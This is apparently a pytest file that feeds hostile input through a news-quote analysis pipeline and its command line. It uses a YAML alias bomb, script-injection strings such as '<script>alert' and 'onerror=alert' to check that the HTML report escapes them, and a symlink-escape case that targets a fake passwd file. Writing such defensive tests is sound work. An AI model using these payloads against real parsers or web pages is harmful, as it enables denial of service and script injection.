"""Hostile input through the whole path: loader -> extract_quotes -> analyze -> CLI -> report.

Each case checks the promise of issue 9: the good articles all come through, each bad one
is named in ``problems`` (or raised with its file in strict mode), and the command line
leaves no half-written file. Loader cases already in ``test_corpus.py`` (empty, binary,
bad YAML, cp1252, UTF-16, BOM, CSV field counts, truncated JSONL, duplicate ids) are not
repeated here; this file adds the rest and drives everything through ``analyze`` and the CLI.
Inputs are generated in ``tmp_path``; no file is shipped.
"""

from __future__ import annotations

import json
import os
import pathlib
from pathlib import Path

import pandas as pd
import pytest

from analysis.cli import main
from analysis.corpus import PROBLEM_COLUMNS, load_corpus
from analysis.errors import CorpusError, MetadataError, RecordFormatError, UnreadableError
from analysis.pipeline import analyze
from analysis.quotes import extract_quotes

# An invented article: one direct quote with a named speaker, one indirect with a group.
GOOD = "“We will rebuild the port,” said Ann Lee, a harbour official.\n\nOfficials said the work starts soon."


def rows(table: pd.DataFrame) -> list[tuple[str, str, str]]:
    return [tuple(row) for row in table[PROBLEM_COLUMNS].itertuples(index=False)]


def write(folder: Path, name: str, data: bytes | str) -> Path:
    path = folder / name
    path.parent.mkdir(parents=True, exist_ok=True)
    if isinstance(data, str):
        path.write_text(data, encoding="utf-8")
    else:
        path.write_bytes(data)
    return path


# --- loader: what test_corpus.py does not cover ------------------------------------------

BAD_FILES = [
    # "Title\n\n" is 7 bytes and "Some text" 9 more, so the NUL is at offset 16
    (
        "nul-in-text.txt",
        b"Title\n\nSome text\x00 more text.",
        "BinaryArticleError",
        "binary data, not text (NUL byte at offset 16)",
    ),
    # two aliases of a nine-item list already mean 81 items; nesting them explodes
    (
        "alias-bomb.txt",
        b"---\na: &a [x, x, x, x, x, x, x, x, x]\nb: [*a, *a, *a, *a, *a, *a, *a, *a, *a]\n---\nT\n\n"
        + GOOD.encode(),
        "MetadataError",
        "front matter is not valid YAML: YAML aliases (*name) are not allowed here at line 2",
    ),
    (
        "deep-yaml.txt",
        b"---\ntitle: " + b"[" * 3000 + b"\n---\nT\n\n" + GOOD.encode(),
        "MetadataError",
        "front matter is nested too deeply to read",
    ),
    (
        "date-number.txt",
        b"---\ndate: 20160912\n---\nT\n\n" + GOOD.encode(),
        "MetadataError",
        "metadata 'date' is '20160912', not a date written YYYY-MM-DD",
    ),
    (
        "country-mapping.txt",
        b"---\ncountry: {name: Libya}\n---\nT\n\n" + GOOD.encode(),
        "MetadataError",
        "metadata 'country' is a dict, expected text",
    ),
    (
        "front-matter-only.txt",
        b"---\ntitle: Nothing else\n---\n\n\n",
        "EmptyArticleError",
        "no article text after the metadata and title",
    ),
    (
        "huge-int.jsonl:1",
        b'{"id": ' + b"7" * 5000 + b', "text": "x"}\n',
        "RecordFormatError",
        "not usable JSON: Exceeds the limit (4300 digits) for integer string conversion: "
        "value has 5000 digits; use sys.set_int_max_str_digits() to increase the limit",
    ),
    (
        "deep.jsonl:1",
        b"[" * 100_000 + b"\n",
        "RecordFormatError",
        "not usable JSON: nested too deeply to read",
    ),
    (
        "text-number.jsonl:1",
        b'{"id": "n", "text": 42}\n',
        "MetadataError",
        "'text' is a int, expected a string",
    ),
    (
        "whitespace.jsonl",
        b" \n\t\n\n",
        "EmptyArticleError",
        "empty file, no JSON lines",
    ),
    (
        "header-only.csv",
        b"id,title\n",
        "RecordFormatError",
        "no 'text' column (columns: id, title)",
    ),
    # the quoted field opens on line 2 and the file ends inside it
    (
        "unclosed.csv:2",
        b'id,text\n1,"never closed\nstill inside\n',
        "RecordFormatError",
        "bad CSV (unexpected end of data); lines 2-3 skipped, reading went on after it",
    ),
]


@pytest.mark.parametrize(
    ("name", "data", "error", "problem"), BAD_FILES, ids=[case[0] for case in BAD_FILES]
)
def test_bad_file_is_named_and_the_good_one_loads(tmp_path, name, data, error, problem):
    # ``name`` is the expected source: the file, with ":line" for a JSONL or CSV record
    write(tmp_path, "good.txt", "Good\n\n" + GOOD)
    write(tmp_path, name.split(":")[0], data)
    corpus = load_corpus(tmp_path)
    assert corpus.articles["article_id"].tolist() == ["good"]
    assert rows(corpus.problems) == [(name, error, problem)]


@pytest.mark.parametrize(
    ("name", "data", "error", "problem"), BAD_FILES[:3], ids=["nul", "bomb", "deep"]
)
def test_strict_mode_raises_with_file_and_problem(tmp_path, name, data, error, problem):
    write(tmp_path, name, data)
    with pytest.raises(CorpusError) as caught:
        load_corpus(tmp_path, strict=True)
    assert type(caught.value).__name__ == error
    assert str(caught.value) == f"{name}: {problem}"


def test_yaml_scalars_stay_text(tmp_path):
    # YAML 1.1 reads NO as false (Norway), 000123 as octal 83 and 0x1F as 31
    write(tmp_path, "n.txt", "---\nid: 000123\ncountry: NO\ntitle: 0x1F\nflag: yes\n---\n" + GOOD)
    row = load_corpus(tmp_path).articles.iloc[0]
    assert (row["article_id"], row["country"], row["title"], row["flag"]) == (
        "000123",
        "NO",
        "0x1F",
        "yes",
    )


def test_lone_surrogates_become_replacement_characters(tmp_path):
    # "\ud800" is valid JSON but no UTF-8 can hold it; every output file would fail later
    write(tmp_path, "s.jsonl", '{"id": "s", "title": "a\\udc80b", "text": "x \\ud800 y."}\n')
    row = load_corpus(tmp_path).articles.iloc[0]
    assert (row["title"], row["text"]) == ("a\ufffdb", "x \ufffd y.")
    row.drop("text").to_json()  # every value encodes


def test_metadata_named_like_loader_columns_keeps_provenance(tmp_path):
    write(tmp_path, "f.jsonl", json.dumps({"id": "r", "source": "Reuters", "text": GOOD}) + "\n")
    row = load_corpus(tmp_path).articles.iloc[0]
    assert (row["source"], row["meta_source"]) == ("f.jsonl:1", "Reuters")


def test_latin1_and_utf16_big_endian_are_decoded(tmp_path):
    body = "The mayor of Zürich said the naïve plan would fail."
    write(tmp_path, "latin.txt", ("Zürich talks\n\n" + body).encode("latin-1"))
    write(tmp_path, "be.txt", ("Zürich talks\n\n" + body).encode("utf-16-be"))
    table = load_corpus(tmp_path).articles.set_index("article_id")
    assert table.loc["latin", "text"] == table.loc["be", "text"] == body
    # latin-1 and cp1252 agree on these letters; cp1252 is the loader's preferred reading
    assert table["encoding"].to_dict() == {"be": "utf-16-be", "latin": "cp1252"}


def test_csv_bad_quoting_costs_only_its_own_lines(tmp_path):
    write(
        tmp_path,
        "e.csv",
        'id,text\na,"First, fine."\nb,"a stray "quote" inside"\nc,"Third, fine."\n'
        'd,"Fourth\n\nin two paragraphs."\n',
    )
    corpus = load_corpus(tmp_path)
    assert corpus.articles["article_id"].tolist() == ["a", "c", "d"]
    assert corpus.articles["text"].tolist()[2] == "Fourth\n\nin two paragraphs."
    assert rows(corpus.problems) == [
        (
            "e.csv:3",
            "RecordFormatError",
            "bad CSV (',' expected after '\"'); line 3 skipped, reading went on after it",
        )
    ]


def test_csv_and_jsonl_records_over_the_limit(tmp_path):
    write(tmp_path, "big.csv", 'id,text\nbig,"' + "x" * 5000 + '"\nsmall,"Short text."\n')
    write(tmp_path, "big.jsonl", json.dumps({"id": "j", "text": "y" * 5000}) + "\n")
    # a JSONL line longer than 4 * max_bytes + 1 MB is skipped without being held in memory
    write(
        tmp_path,
        "huge.jsonl",
        '{"text": "' + "z" * 1_100_000 + '"}\n{"id": "after", "text": "ok."}\n',
    )
    corpus = load_corpus(tmp_path, max_bytes=1000)
    assert corpus.articles["article_id"].tolist() == ["after", "small"]
    assert rows(corpus.problems) == [
        (
            "big.csv:2",
            "OversizeArticleError",
            "text of 5,000 characters, over the max_bytes limit of 1,000",
        ),
        (
            "big.jsonl:1",
            "OversizeArticleError",
            "text of 5,000 characters, over the max_bytes limit of 1,000",
        ),
        (
            "huge.jsonl:1",
            "OversizeArticleError",
            "line of over 1.0 MB, too long for an article under the max_bytes limit of 1,000",
        ),
    ]


def test_named_pipe_does_not_hang_the_loader(tmp_path):
    os.mkfifo(tmp_path / "pipe.txt")  # reading it would block forever
    write(tmp_path, "good.txt", "Good\n\n" + GOOD)
    corpus = load_corpus(tmp_path)
    assert corpus.articles["article_id"].tolist() == ["good"]
    assert rows(corpus.problems) == [
        ("pipe.txt", "UnreadableError", "not a regular file (a named pipe, device or socket)")
    ]


def test_broken_link_is_unreadable(tmp_path):
    (tmp_path / "gone.txt").symlink_to(tmp_path / "nowhere.txt")
    write(tmp_path, "good.txt", "Good\n\n" + GOOD)
    assert rows(load_corpus(tmp_path).problems) == [
        ("gone.txt", "UnreadableError", "cannot be read: No such file or directory")
    ]


def _runs_as_root() -> bool:
    return hasattr(os, "geteuid") and os.geteuid() == 0


@pytest.mark.skipif(_runs_as_root(), reason="root reads files whatever their mode")
def test_unreadable_file_and_folder_with_chmod(tmp_path):
    write(tmp_path, "good.txt", "Good\n\n" + GOOD)
    locked_file = write(tmp_path, "locked.txt", "T\n\n" + GOOD)
    locked_dir = tmp_path / "locked"
    write(locked_dir, "inner.txt", "T\n\n" + GOOD)
    locked_file.chmod(0)
    locked_dir.chmod(0)
    try:
        corpus = load_corpus(tmp_path)
    finally:
        locked_dir.chmod(0o755)
        locked_file.chmod(0o644)
    assert corpus.articles["article_id"].tolist() == ["good"]
    assert corpus.problems["source"].tolist() == ["locked", "locked.txt"]
    assert corpus.problems["error"].eq("UnreadableError").all()


def test_unreadable_file_and_folder_simulated(tmp_path, monkeypatch):
    # the same refusals as chmod 000 for a non-root user, simulated so they run as root too
    write(tmp_path, "good.txt", "Good\n\n" + GOOD)
    write(tmp_path, "locked.txt", "T\n\n" + GOOD)
    write(tmp_path / "locked", "inner.txt", "T\n\n" + GOOD)
    real_open, real_scandir = pathlib.Path.open, os.scandir

    def refusing_open(self, *args, **kwargs):
        if self.name == "locked.txt":
            raise PermissionError(13, "Permission denied", str(self))
        return real_open(self, *args, **kwargs)

    def refusing_scandir(path="."):
        if Path(path).name == "locked":
            raise PermissionError(13, "Permission denied", str(path))
        return real_scandir(path)

    monkeypatch.setattr(pathlib.Path, "open", refusing_open)
    monkeypatch.setattr(os, "scandir", refusing_scandir)
    corpus = load_corpus(tmp_path)
    assert corpus.articles["article_id"].tolist() == ["good"]
    assert rows(corpus.problems) == [
        ("locked", "UnreadableError", "folder cannot be read: Permission denied"),
        ("locked.txt", "UnreadableError", "cannot be read: Permission denied"),
    ]
    with pytest.raises(UnreadableError, match=r"^locked: folder cannot be read"):
        load_corpus(tmp_path, strict=True)


# --- the 50 MB article and the one enormous paragraph ------------------------------------


@pytest.mark.slow
def test_fifty_megabyte_article_is_a_problem_then_loads_and_is_analysed(tmp_path):
    # one paragraph, no sentence end, no quotation mark: 50,000,000 bytes after the title
    body = "the council met and voted " * (50_000_000 // 26)
    path = write(tmp_path, "huge.txt", "Huge\n\n" + body)
    write(tmp_path, "good.txt", "Good\n\n" + GOOD)
    over = load_corpus(tmp_path)
    assert over.articles["article_id"].tolist() == ["good"]
    size = path.stat().st_size  # 6 bytes of title and blank line + the body
    assert rows(over.problems) == [
        (
            "huge.txt",
            "OversizeArticleError",
            f"{size / 1e6:.1f} MB, over the 20.0 MB limit (max_bytes)",
        )
    ]
    raised = load_corpus(tmp_path, max_bytes=60_000_000)
    assert raised.problems.empty
    assert raised.articles.set_index("article_id").loc["huge", "text"] == body.strip()
    results = analyze(raised, sentiment=False)
    assert results.articles["article_id"].tolist() == ["good", "huge"]
    assert results.articles["n_chars"].tolist() == [len(GOOD), len(body.strip())]
    assert results.problems.empty


def test_one_enormous_paragraph_file_is_not_lost_as_a_title(tmp_path):
    # no title line: the first line is 1 MB of text, far too long to be a headline
    body = "and “the minister «said that " * 35_000
    write(tmp_path, "para.txt", body)
    row = load_corpus(tmp_path).articles.iloc[0]
    assert (row["title"], row["text"]) == ("", body.strip())


# --- extract_quotes and analyze on hostile text -----------------------------------------

MARKS = "\"'“”‘’«»„‚‹›`"

HOSTILE_TEXTS = {
    "alternating-marks-1mb": "“”" * 500_000,
    "every-mark-alternating": MARKS * 20_000,
    "stray-marks-every-kind": "„Open ‹single “stray ” » ' \" ` ‚low ‘ end\n\n" * 200,
    "unbalanced-openers": "He said: “we ‘will «never ‹stop\n\n" * 500,
    "no-sentence-end-1mb": "and the minister said that " * 40_000,
    "nul-and-controls": "He said \x00 “yes\x01,” \x7f she said.\x0b\x0c",
    "markup": "<script>alert('x')</script> “<b>Hi</b>,” said <i>Ann</i> Lee.",
    "only-whitespace": " \n\n\t \u00a0\u2028\n",
    "empty": "",
    "mixed-line-ends": "“A,” he said.\r\n\r“B,” she said.\r\n",
    "bidi-and-zero-width": "\u202e“gnihton,” \u200bsaid\u200d Ann\ufeff Lee.",
}


@pytest.mark.parametrize("text", list(HOSTILE_TEXTS.values()), ids=list(HOSTILE_TEXTS))
def test_extract_quotes_on_hostile_text_returns_valid_spans(text):
    for quote in extract_quotes(text):
        assert 0 <= quote.start <= quote.end <= len(text)
        assert all(0 <= s <= e <= len(text) for s, e in quote.fragments)
        pieces = [text[s:e] for s, e in quote.fragments]
        assert quote.text == " ".join(pieces) or quote.text == text[quote.start : quote.end]


def test_analyze_keeps_every_hostile_article(tmp_path):
    # the same texts as articles of one corpus (empty ones are loader problems instead)
    for name, text in HOSTILE_TEXTS.items():
        write(tmp_path, f"{name}.txt", f"Title of {name}\n\n{text}")
    write(tmp_path, "good.txt", "Good\n\n" + GOOD)
    corpus = load_corpus(tmp_path)
    assert sorted(corpus.problems["source"]) == [
        "empty.txt",
        "nul-and-controls.txt",
        "only-whitespace.txt",
    ]
    expected = sorted({*HOSTILE_TEXTS, "good"} - {"empty", "only-whitespace", "nul-and-controls"})
    results = analyze(corpus, sentiment=False)
    assert results.articles["article_id"].tolist() == expected
    assert len(results.problems) == 3  # the loader's, carried through; analysis added none
    good = results.quotes[results.quotes["article_id"] == "good"]
    # hand-checked: one direct quote by Ann Lee (marks excluded), one indirect by
    # "Officials" (reported clause without the sentence's full stop)
    assert good["text"].tolist() == ["We will rebuild the port,", "the work starts soon"]
    assert good["speaker"].tolist() == ["Ann Lee", "Officials"]


def test_analyze_with_sentiment_on_small_hostile_texts():
    small = {k: v for k, v in HOSTILE_TEXTS.items() if len(v) < 20_000}
    table = pd.DataFrame({"article_id": list(small), "text": list(small.values())})
    results = analyze(table)
    assert sorted(results.articles["article_id"]) == sorted(small)
    assert results.problems.empty
    scored = results.articles.set_index("article_id")
    assert scored.loc["markup", ["polarity", "vader_compound"]].notna().all()


def test_analyze_names_rows_that_are_not_articles():
    table = pd.DataFrame(
        {"article_id": ["ok", "none", "number"], "text": ["“Yes,” he said.", None, 42]}
    )
    results = analyze(table, sentiment=False)
    # None counts as an empty text; a number is not a text and is named, the rest goes on
    assert results.articles["article_id"].tolist() == ["none", "ok"]
    assert rows(results.problems) == [
        ("article 'number'", "RecordFormatError", "'text' should be a string, found int")
    ]
    with pytest.raises(RecordFormatError, match=r"^article 'number': 'text' should be a string"):
        analyze(table, sentiment=False, strict=True)


# --- the command line and the HTML report -----------------------------------------------


def hostile_corpus(folder: Path) -> dict[str, str]:
    """A corpus of good and bad files; returns the good article ids and their titles."""
    write(folder, "good.txt", "Good news\n\n" + GOOD)
    write(
        folder,
        "markup.txt",
        "<script>alert('title')</script> Port\n\n<b>x</b> <script>alert(1)</script> " + GOOD,
    )
    write(
        folder,
        "latin.txt",
        "Caf\xe9 talks\n\nThe mayor said the caf\xe9 would “reopen”.".encode("cp1252"),
    )
    write(folder, "wide.txt", ("Wide\n\n" + GOOD).encode("utf-16"))
    write(folder, "bom.txt", b"\xef\xbb\xbf" + ("With BOM\r\n\r\n" + GOOD).encode())
    write(folder, "mixed-ends.txt", ("Line ends\r\n\r" + GOOD.replace("\n\n", "\r\r\n")).encode())
    write(folder, "marks.txt", "Marks\n\n" + MARKS * 1000 + "\n\n„Unclosed ‹single “stray")
    write(folder, "sub/nested.txt", "---\ntitle: Nested\ncountry: NO\n---\n" + GOOD)
    write(folder, "empty.txt", b"")
    write(folder, "binary.txt", b"\x89PNG\r\n\x1a\n\x00\x00\x00")
    write(folder, "bad-yaml.txt", "---\ntitle: [x\n---\n" + GOOD)
    write(
        folder,
        "feed.jsonl",
        json.dumps({"id": "j1", "title": "<img src=x onerror=alert(2)>", "text": GOOD})
        + "\n"
        + json.dumps({"id": "j1", "text": GOOD})
        + "\n"
        + '{"id": "j2", "text": "cut off',
    )
    write(
        folder,
        "rows.csv",
        'id,title,text\nc1,C,"Fine, said Bob."\nc2,D,"bad "q" x"\nc3,E,"After, said Al."\n',
    )
    return {
        "good": "Good news",
        "markup": "<script>alert('title')</script> Port",
        "latin": "Café talks",
        "wide": "Wide",
        "bom": "With BOM",
        "mixed-ends": "Line ends",
        "marks": "Marks",
        "sub/nested": "Nested",
        "j1": "<img src=x onerror=alert(2)>",
        "c1": "C",
        "c3": "E",
    }


BAD_SOURCES = [
    "bad-yaml.txt",
    "binary.txt",
    "empty.txt",
    "feed.jsonl:2",
    "feed.jsonl:3",
    "rows.csv:3",
]


def test_cli_on_a_hostile_corpus(tmp_path, capsys):
    good = hostile_corpus(tmp_path / "corpus")
    out = tmp_path / "out"
    assert (
        main(["analyze", str(tmp_path / "corpus"), "--out", str(out), "--jobs", "1", "--quiet"])
        == 0
    )
    printed = capsys.readouterr().out
    for source in BAD_SOURCES:
        assert f"problem: {source}: " in printed
    articles = pd.read_csv(out / "articles.csv", keep_default_na=False, dtype=str)
    assert dict(zip(articles["article_id"], articles["title"], strict=True)) == good
    problems = pd.read_csv(out / "problems.csv", keep_default_na=False)
    assert sorted(problems["source"]) == BAD_SOURCES
    pd.testing.assert_frame_equal(
        pd.read_parquet(out / "articles.parquet")[["article_id"]], articles[["article_id"]]
    )
    # no temporary or partial file is left anywhere
    leftovers = [
        p for p in out.rglob("*") if p.is_file() and (p.stat().st_size == 0 or "tmp" in p.name)
    ]
    assert leftovers == []


def test_report_escapes_markup_in_text_and_titles(tmp_path):
    hostile_corpus(tmp_path / "corpus")
    out = tmp_path / "out"
    main(["analyze", str(tmp_path / "corpus"), "--out", str(out), "--jobs", "1", "--quiet"])
    html = (out / "report.html").read_text(encoding="utf-8")
    # the page's own scripts, if any, are not the article's: none of the injected ones survive
    for injected in ("<script>alert(", "<img src=x onerror", "<b>x</b>"):
        assert injected not in html
    assert "&lt;script&gt;alert(" in html  # shown, as text


def test_cli_with_no_usable_article_exits_2_and_writes_nothing(tmp_path, capsys):
    write(tmp_path / "corpus", "empty.txt", b"")
    write(tmp_path / "corpus", "binary.txt", b"\x00\x01\x02\x03")
    out = tmp_path / "out"
    assert main(["analyze", str(tmp_path / "corpus"), "--out", str(out), "--quiet"]) == 2
    error = capsys.readouterr().err
    assert "empty.txt" in error and "binary.txt" in error
    assert not out.exists() or not any(out.iterdir())


def test_cli_on_a_missing_corpus_exits_2(tmp_path, capsys):
    out = tmp_path / "out"
    assert main(["analyze", str(tmp_path / "nothing-here"), "--out", str(out), "--quiet"]) == 2
    assert "nothing-here: no such file or folder" in capsys.readouterr().err
    assert not out.exists()


def test_cli_full_disk_exits_2_in_one_line_and_leaves_the_previous_result(
    tmp_path, monkeypatch, capsys
):
    import analysis.runner as runner

    corpus = tmp_path / "corpus"
    write(corpus, "a.txt", "A\n\n" + GOOD)
    out = tmp_path / "out"
    assert main(["analyze", str(corpus), "--out", str(out), "--jobs", "1", "--quiet"]) == 0
    before = {p.relative_to(out): p.read_bytes() for p in out.glob("*.*")}
    write(corpus, "b.txt", "B\n\n" + GOOD)

    def crash(*args, **kwargs):
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(runner, "write_final_tables", crash)
    capsys.readouterr()
    status = main(["analyze", str(corpus), "--out", str(out), "--jobs", "1", "--quiet"])
    error = capsys.readouterr().err
    assert status == 2
    assert error == (
        f"error: {out}: cannot write (No space left on device); "
        f"the results already in {out} are unchanged\n"
    )
    after = {p.relative_to(out): p.read_bytes() for p in out.glob("*.*")}
    final = {name for name in before if name.suffix in (".csv", ".parquet", ".html")}
    assert {name: after[name] for name in final} == {name: before[name] for name in final}
    monkeypatch.undo()
    assert main(["analyze", str(corpus), "--out", str(out), "--jobs", "1", "--quiet"]) == 0
    assert pd.read_csv(out / "articles.csv")["article_id"].tolist() == ["a", "b"]


def test_strict_metadata_error_message_names_file(tmp_path):
    write(tmp_path, "x.txt", "---\ncountry: Narnia\n---\nT\n\n" + GOOD)
    with pytest.raises(MetadataError, match=r"^x\.txt: metadata 'country' is 'Narnia'"):
        load_corpus(tmp_path, strict=True)


def test_file_name_that_is_not_utf8_is_named_readably_and_analysed(tmp_path, capsys):
    # the byte 0xe9 (é in Latin-1) is not UTF-8: Python holds it as a lone surrogate, which
    # broke hashing and every output file; it is shown as the escape \xe9 instead
    corpus = tmp_path / "corpus"
    corpus.mkdir()
    (Path(os.fsdecode(bytes(corpus) + b"/caf\xe9.txt"))).write_text(
        "T\n\n" + GOOD, encoding="utf-8"
    )
    write(corpus, "ok.txt", "T\n\n" + GOOD)
    loaded = load_corpus(corpus)
    assert loaded.articles["source"].tolist() == ["caf\\xe9.txt", "ok.txt"]
    assert loaded.articles["article_id"].tolist() == ["caf\\xe9", "ok"]
    out = tmp_path / "out"
    assert main(["analyze", str(corpus), "--out", str(out), "--jobs", "1", "--quiet"]) == 0
    assert pd.read_csv(out / "articles.csv")["article_id"].tolist() == ["caf\\xe9", "ok"]


def test_csv_bad_byte_after_the_sampled_megabyte_costs_one_record(tmp_path):
    # the encoding is chosen from the first 1 MB (UTF-8 here); a Latin-1 byte further down
    # used to stop the whole file, now only its record is a problem
    filler = "x" * 600
    rows = "".join(f'{i},"Story {i} {filler}."\n' for i in range(1, 2001))
    data = b"id,text\n" + rows.encode() + b'bad,"caf\xe9 au lait."\nafter,"Still read."\n'
    assert len(data) > 1_000_000
    write(tmp_path, "big.csv", data)
    corpus = load_corpus(tmp_path)
    assert len(corpus.articles) == 2001  # rows 1..2000 and "after"
    assert "after" in set(corpus.articles["article_id"])
    # header on line 1, 2000 rows on lines 2-2001: the bad record is line 2002
    assert rows_of(corpus) == [
        (
            "big.csv:2002",
            "ArticleEncodingError",
            "not utf-8 (byte 0xe9 in this record); record skipped",
        )
    ]


def rows_of(corpus) -> list[tuple[str, str, str]]:
    return rows(corpus.problems)


@pytest.mark.slow
def test_cli_on_megabyte_runs_of_quotation_marks(tmp_path):
    # sentiment is left out: TextBlob and VADER are a separate, known slow spot on long text
    corpus = tmp_path / "corpus"
    names = ["alternating-marks-1mb", "every-mark-alternating", "no-sentence-end-1mb"]
    for name in names:
        write(corpus, f"{name}.txt", f"T\n\n{HOSTILE_TEXTS[name]}")
    out = tmp_path / "out"
    argv = ["analyze", str(corpus), "--out", str(out), "--jobs", "1", "--quiet", "--no-sentiment"]
    assert main(argv) == 0
    articles = pd.read_csv(out / "articles.csv")
    assert articles["article_id"].tolist() == sorted(names)
    # the body is the text after "T\n\n", minus trailing spaces stripped by the loader
    expected = [len(HOSTILE_TEXTS[name].strip()) for name in sorted(names)]
    assert articles["n_chars"].tolist() == expected
    assert pd.read_csv(out / "problems.csv").empty


def test_metadata_named_like_a_computed_column_is_not_lost():
    table = pd.DataFrame({"article_id": ["a"], "text": [GOOD], "n_quotes": ["editor's count: 7"]})
    results = analyze(table, sentiment=False)
    # kept as meta_n_quotes, as the loader keeps a metadata 'source' as meta_source
    assert results.articles.loc[0, "meta_n_quotes"] == "editor's count: 7"
    # its own count: the quoted sentence by Ann Lee and what officials said, by hand
    assert results.articles.loc[0, "n_quotes"] == 2


@pytest.mark.parametrize("encoding", ["utf-16", "utf-32"])
def test_jsonl_and_csv_in_utf16_or_utf32_with_a_bom(tmp_path, encoding):
    # Windows tools save "Unicode" text as UTF-16 with a byte-order mark
    text = "Zürich “talks”, said Ann."
    write(
        tmp_path,
        "feed.jsonl",
        (json.dumps({"id": "j", "text": text}, ensure_ascii=False) + "\n").encode(encoding),
    )
    write(tmp_path, "rows.csv", f'id,text\nc,"{text}"\n'.encode(encoding))
    corpus = load_corpus(tmp_path)
    assert corpus.problems.empty
    assert corpus.articles[["article_id", "text", "encoding"]].values.tolist() == [
        ["c", text, encoding],
        ["j", text, encoding],
    ]


def test_utf16_jsonl_cut_inside_a_character(tmp_path):
    # a download cut after an odd number of bytes leaves half a UTF-16 code unit at the end
    line = json.dumps({"id": "kept", "text": "Whole line."}) + "\n"
    write(tmp_path, "cut.jsonl", line.encode("utf-16") + "x".encode("utf-16-le")[:1])
    corpus = load_corpus(tmp_path)
    assert corpus.articles["article_id"].tolist() == ["kept"]
    assert rows(corpus.problems) == [
        (
            "cut.jsonl:2",
            "ArticleEncodingError",
            "not valid utf-16 (truncated data); the rest of the file was skipped",
        )
    ]


# --- issue 19: attacks that used to stop a run, write outside --out or lose rows ----------

TAGGED = {
    "float": ("!!float abc", "abc"),
    "int": ("!!int 0x", "0x"),
    "bool": ("!!bool maybe", "maybe"),
    "timestamp": ("!!timestamp 2016-13-45", "2016-13-45"),
    "binary": ('!!binary "%%% not base64"', "%%% not base64"),
    "long-int": ("!!int " + "9" * 5000, "9" * 5000),
}


@pytest.mark.parametrize("tagged", list(TAGGED.values()), ids=list(TAGGED))
def test_yaml_tags_that_cannot_be_built_stay_text(tmp_path, tagged):
    value, text = tagged
    write(tmp_path / "c", "a.txt", f"---\nnote: {value}\n---\nA\n\n{GOOD}")
    write(tmp_path / "c" / "sub", "corpus.yaml", f"desk: {value}\n")
    write(tmp_path / "c" / "sub", "b.txt", "B\n\n" + GOOD)
    corpus = load_corpus(tmp_path / "c")
    assert corpus.problems.empty
    articles = corpus.articles.set_index("article_id")
    assert articles.loc["a", "note"] == text
    assert articles.loc["sub/b", "desk"] == text


def test_a_yaml_tag_on_the_wrong_kind_of_node_is_a_problem_row(tmp_path):
    write(tmp_path / "c", "a.txt", "---\nnote: !!int [1, 2]\n---\nA\n\n" + GOOD)
    write(tmp_path / "c" / "sub", "corpus.yaml", "desk: !!float {a: 1}\n")
    write(tmp_path / "c" / "sub", "b.txt", "B\n\n" + GOOD)
    write(tmp_path / "c", "good.txt", "Good\n\n" + GOOD)
    corpus = load_corpus(tmp_path / "c")
    assert corpus.articles["article_id"].tolist() == ["good", "sub/b"]
    assert [(s, e) for s, e, _ in rows(corpus.problems)] == [
        ("a.txt", "MetadataError"),
        ("sub/corpus.yaml", "MetadataError"),
    ]
    assert "tag:yaml.org,2002:int expects a single value" in corpus.problems.loc[0, "problem"]


def test_yaml_set_is_a_sorted_list_the_same_on_every_run(tmp_path):
    write(tmp_path, "a.txt", "---\ntags: !!set {zeta, alpha, mu}\n---\nA\n\n" + GOOD)
    assert load_corpus(tmp_path).articles.loc[0, "tags"] == '["alpha", "mu", "zeta"]'


def quotes_and_speakers_columns() -> list[str]:
    from analysis.pipeline import QUOTE_DTYPES, QUOTE_SENTIMENT, SPEAKER_DTYPES

    computed = {*QUOTE_DTYPES, *QUOTE_SENTIMENT, *SPEAKER_DTYPES}
    return sorted(computed - {"article_id", "title", "outlet", "date", "country", "text"})


def test_metadata_named_like_quotes_and_speakers_columns_runs_and_is_kept(tmp_path):
    names = quotes_and_speakers_columns()
    assert "fragments" in names and "speaker" in names
    record = {"id": "a", "text": GOOD, **{name: f"meta {name}" for name in names}}
    write(tmp_path / "c", "a.jsonl", json.dumps(record) + "\n")
    out = tmp_path / "out"
    assert main(["analyze", str(tmp_path / "c"), "--out", str(out), "--jobs", "1", "--quiet"]) == 0
    articles = pd.read_csv(out / "articles.csv", dtype=str, keep_default_na=False)
    # each kept under its own name, or as meta_<name> when the articles table computes one
    kept = {n: articles.loc[0, f"meta_{n}" if f"meta_{n}" in articles else n] for n in names}
    assert kept == {n: f"meta {n}" for n in names}
    quotes = pd.read_csv(out / "quotes.csv")
    assert quotes["fragments"].tolist()[0].startswith("[[")  # the quotes' own column
    from analysis.runner import read_results

    assert read_results(out).articles.loc[0, "fragments"] == "meta fragments"


@pytest.mark.parametrize("max_bytes", [10**12, 2**63, 10**30], ids=["1TB", "2**63", "10**30"])
def test_a_huge_max_bytes_loads_every_format(tmp_path, max_bytes):
    write(tmp_path / "c", "a.txt", "A\n\n" + GOOD)
    write(tmp_path / "c", "b.jsonl", json.dumps({"id": "b", "text": GOOD}) + "\n")
    write(tmp_path / "c", "c.csv", "id,text\nc," + json.dumps(GOOD) + "\n")
    corpus = load_corpus(tmp_path / "c", max_bytes=max_bytes)
    assert corpus.problems.empty
    assert corpus.articles["article_id"].tolist() == ["a", "b", "c"]


def test_cli_with_a_huge_max_bytes(tmp_path):
    write(tmp_path / "c", "a.txt", "A\n\n" + GOOD)
    out = tmp_path / "out"
    argv = ["analyze", str(tmp_path / "c"), "--out", str(out), "--max-bytes", str(10**30)]
    assert main([*argv, "--jobs", "1", "--quiet", "--no-sentiment"]) == 0
    assert pd.read_csv(out / "articles.csv")["article_id"].tolist() == ["a"]


def test_cli_on_a_read_only_results_folder_exits_2_in_one_line(tmp_path, monkeypatch, capsys):
    import errno

    import analysis.store as store

    corpus = tmp_path / "corpus"
    write(corpus, "a.txt", "A\n\n" + GOOD)
    out = tmp_path / "out"
    argv = ["analyze", str(corpus), "--out", str(out), "--jobs", "1", "--quiet"]
    assert main(argv) == 0
    before = {p.name: p.read_bytes() for p in out.glob("*.*") if p.suffix != ".lock"}
    write(corpus, "b.txt", "B\n\n" + GOOD)

    def read_only(folder, suffix):  # what creating a file in a read-only folder raises
        raise OSError(errno.EROFS, "Read-only file system", str(folder))

    monkeypatch.setattr(store, "_new_temporary", read_only)  # chmod does not stop root
    capsys.readouterr()
    assert main(argv) == 2
    error = capsys.readouterr().err
    assert error.count("\n") == 1 and "cannot write (Read-only file system)" in error
    assert {p.name: p.read_bytes() for p in out.glob("*.*") if p.suffix != ".lock"} == before


def test_links_out_of_the_corpus_are_problems_not_read(tmp_path, capsys):
    secret = write(tmp_path / "private", "passwd.txt", "Secret\n\nroot:x:0:0:SECRET-LINE\n")
